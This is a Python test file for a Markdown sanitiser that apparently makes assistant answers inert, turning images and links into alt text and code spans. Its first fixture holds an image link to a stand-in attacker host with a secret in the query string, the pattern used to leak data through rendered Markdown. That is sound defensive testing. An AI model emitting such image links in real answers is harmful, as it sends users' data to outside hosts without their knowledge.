"""Answers are Markdown, but nothing in them may make the browser fetch or link anywhere."""

from app.views.common import inert_markdown


def test_images_links_and_addresses_are_made_inert():
    answer = (
        "The limit is EUR 220 [1]. ![x](https://evil.example/?q=secret) and ![](http://evil.example/a.png) "
        "see [the policy](https://evil.example/p) or https://evil.example/raw or <http://evil.example/auto>.\n"
        "![ref][1]\n[1]: https://evil.example/ref"
    )
    out = inert_markdown(answer)
    assert "](" not in out and "![" not in out and "\n[1]:" not in out
    for url in ("https://evil.example/p", "https://evil.example/raw", "http://evil.example/auto"):
        assert f"`{url}`" in out  # shown as code: never a live link
    assert "evil.example/?q=secret" not in out and "a.png" not in out  # images: only their alt text
    assert "[image: x]" in out and "the policy (`https://evil.example/p`)" in out


def test_citations_and_dollar_amounts_are_left_alone():
    answer = "Net sales were $81,797 million and $82,959 million [1][2]. 远程办公每周三天 [3]。"
    assert inert_markdown(answer) == answer
